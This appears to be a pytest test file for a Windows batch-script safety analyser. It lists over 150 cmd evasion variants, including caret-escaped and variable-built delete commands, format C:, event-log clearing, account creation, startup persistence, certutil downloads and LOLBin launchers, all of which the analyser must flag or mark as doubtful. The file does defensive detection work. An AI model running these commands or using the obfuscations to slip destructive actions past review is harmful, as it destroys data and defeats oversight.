# SPDX-License-Identifier: Apache-2.0
"""Attempts to run code past the analysis of batch scripts: each is an effect or a doubt."""
# ruff: noqa: E501, SIM905 - tables of cases

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.effects import EffectKind as Kind
from guardrails.script_analysis import analyse_script

# `?` before a line: it must not be judgeable; a kind: that effect is found. `\n` is a line end.
ATTACKS = r"""
deletes_files ;del C:\x
deletes_files ,del C:\x
deletes_files =del C:\x
deletes_files ;;, =del C:\x
deletes_files del,C:\x
deletes_files del;C:\x
deletes_files del=C:\x
deletes_files del/q C:\x
deletes_files @del C:\x
deletes_files @@del C:\x
deletes_files d^el C:\x
deletes_files ^d^e^l C:\x
deletes_files "del" C:\x
deletes_files (del C:\x)
deletes_files echo a&del C:\x
deletes_files echo a & (del C:\x)
deletes_files echo a|del C:\x
deletes_files echo a||del C:\x
deletes_files rem&del C:\x
deletes_files rem &del C:\x
deletes_files >nul del C:\x
deletes_files 2>nul >nul del C:\x
deletes_files >C:\a.txt,del C:\x
deletes_files del<nul C:\x
deletes_files echo ^" & del C:\x
deletes_files echo "a" & del C:\x
deletes_files if 1==1 del C:\x
deletes_files if,1==1,del C:\x
deletes_files if not exist C:\y del C:\x
deletes_files if /i "a"=="A" (echo b) else del C:\x
deletes_files if defined x (del C:\x)
deletes_files if a==a if b==b del C:\x
deletes_files for %%i in (1 2) do del C:\x
deletes_files for /f %%i in ('del C:\x') do echo a
deletes_files for /f "usebackq" %%i in (`del C:\x`) do echo a
deletes_files for /f "tokens=1 delims=," %%a in ('type x ^| del C:\y') do echo a
deletes_files for /l %%i in (1,1,3) do @del C:\x
deletes_files call del C:\x
deletes_files start /b del C:\x
deletes_files start "" /wait cmd /c del C:\x
deletes_files cmd /c del C:\x
deletes_files cmd /q /c del C:\x
deletes_files cmd /s/c"del C:\x"
deletes_files cmd.exe /k del C:\x
deletes_files %comspec% /c del C:\x
deletes_files %COMSPEC% /c "del C:\x"
deletes_files C:\Windows\System32\cmd.exe /c del C:\x
deletes_files set x=del\n%x% C:\x
deletes_files set a=d\nset b=el\n%a%%b% C:\x
deletes_files set x=xdelx\n%x:~1,3% C:\x
deletes_files set x=dzl\n%x:z=e% C:\x
deletes_files set "x=echo a & del C:\x"\n%x%
deletes_files powershell -c "Remove-Item C:\x"
deletes_files powershell Remove-Item C:\x
deletes_files (\necho a\n) & del C:\x
deletes_files goto :a\n:a\ndel C:\x
deletes_files call :a\n:a\ndel C:\x
? %x% C:\x
? !x! C:\x
? d%x%el C:\x
? %1 %2
? %* x
? %~dp0tool.exe
? %0
? set x=del\nset x=rem\n%x% C:\x
? set /p x=?\n%x%
? for /f %%i in (a.txt) do %%i
? for %%i in (del) do %%i C:\x
? for /f "delims=" %%i in (a.txt) do set c=%%i\necho %c%
? set /p c=<a.txt\necho %c%
? set x=^&\nset x=^& del C:\x\necho a%x%
deletes_files setlocal enabledelayedexpansion\nset x=del\n!x! C:\x
? cmd /v:on /c "set x=del&!x! C:\x"
? call %x%
? call %%x%% C:\x
? call other.bat
? other.bat
? x.cmd
? echo del C:\x > x.bat & x.bat
? echo del C:\x > x.bat & call x
? copy con x.bat & x
? foo
? foo.exe
? .\ipconfig.exe
? C:\Temp\ipconfig /all
? "%TEMP%\ipconfig.exe"
? %APPDATA%\x.exe
? \\server\share\x.exe
? start foo
? start "" "C:\x.exe"
? start "" /d C:\Temp ipconfigx
? start x.lnk
? start %x%
? cmd < x.txt
? type x.txt | cmd
? echo del C:\x | cmd
? echo rm C:\x | powershell -
? echo rm C:\x | powershell
? powershell -enc %x%
? powershell -f x.ps1
? powershell -File x.ps1
? powershell .\x.ps1
? powershell -c "iex $env:x"
? powershell -c "%1"
? powershell %x% -c Get-Date
? pwsh x.ps1
? wscript x.vbs
? cscript //nologo x.js
? mshta x.hta
? rundll32 x.dll,Run
? regsvr32 /s x.dll
? forfiles /c "cmd /c del C:\x"
? msbuild x.xml
? installutil x.dll
? python x.py
? bash -c "rm x"
? wsl rm x
? wmic process call create "cmd /c del C:\x"
? conhost cmd /c del C:\x
? pcalua -a x.exe
? psexec \\a cmd
? runas /user:a cmd
? odbcconf /a {REGSVR x.dll}
? explorer x.exe
? if x
? for %%i in
? if 1==1 (
? path C:\x;%path%
? set path=C:\x;%path%
? set comspec=C:\x.exe
? set pathext=.txt
? doskey ipconfig=del C:\x
? certoc -LoadDLL x.dll
writes_system_files echo x > C:\Windows\System32\x.dll
writes_system_files echo x>>%windir%\system32\drivers\etc\hosts
writes_system_files > C:\Windows\x.txt echo a
writes_system_files (echo a) > x.bat
writes_system_files echo x> x.bat
writes_system_files copy /y x C:\Windows\System32
writes_system_files xcopy x C:\Windows
writes_system_files robocopy x y /mir
writes_system_files copy con x.bat
writes_system_files type x > y.exe
writes_system_files mklink a b
writes_system_files sort x /o C:\Windows\y
persists copy x "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.bat"
persists echo x > "%ProgramData%\Microsoft\Windows\Start Menu\Programs\Startup\x.cmd"
persists schtasks /create /tn a /tr x
changes_accounts net user a b /add
changes_accounts n^et user a b /add
changes_services sc create a binpath= C:\x.exe
changes_registry reg add HKCU\x
changes_registry reg,add HKCU\x
restarts_device shutdown/r
restarts_device shut^down /r
changes_disks format C: /q
downloads certutil -urlcache -f http://a.test/x x
downloads curl -o x http://a.test/x
erases_traces wevtutil cl System
"""
CASES = [line.split(" ", 1) for line in ATTACKS.strip().split("\n")]


def test_there_are_many_attempts() -> None:
    assert len(CASES) >= 150


@pytest.mark.parametrize(("expected", "code"), CASES, ids=[code for _, code in CASES])
def test_an_attempt_is_an_effect_or_a_doubt(expected: str, code: str) -> None:
    text = code.replace(r"\n", "\n")
    analysis = analyse_script("cmd", f"@echo off\n{text}\necho b\n".encode())
    if expected == "?":
        assert not analysis.judgeable
        assert analysis.doubts
    else:
        assert Kind(expected) in {effect.kind for effect in analysis.effects}
    assert not (analysis.judgeable and analysis.severity == "none")


def test_a_caret_joins_lines() -> None:
    assert not analyse_script("cmd", b"@echo off\nde^\nl C:\\x\n").judgeable


def test_growing_variables_cost_little() -> None:
    lines = ["set a=aaaaaaaaaa", *(f"set b{n}=%b{n - 1}%%b{n - 1}%" for n in range(1, 60))]
    lines.insert(1, "set b0=%a%%a%")
    lines.append("echo " + "%b59%" * 4000)
    began = time.process_time()
    analysis = analyse_script("cmd", "\n".join(lines).encode())
    assert time.process_time() - began < 2
    assert not analysis.judgeable


_PIECES = st.sampled_from(
    "if |else |for %%i in (|) do |(|)|&|\\||>|<|^|\"|%x%|!x!|set x=|call |start |;|,|=|@|rem |:a|\n|/c |cmd |del |'|`|/f |1==1 |%x:~1%|%x:a=b%|&1|2>".split(
        "|"
    )
)


@settings(max_examples=200, deadline=None)
@given(st.lists(_PIECES, max_size=40).map("".join))
def test_no_input_raises(text: str) -> None:
    analysis = analyse_script("cmd", text.encode())
    assert analysis.danger >= 0


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(["if 1==1 ", "@", ";", "( ", "call ", "echo a & "]), max_size=12))
def test_an_unknown_program_behind_any_prefix_is_a_doubt(prefixes: list[str]) -> None:
    text = "".join(prefixes) + "frobnicate C:\\x" + ")" * prefixes.count("( ")
    assert not analyse_script("cmd", text.encode()).judgeable
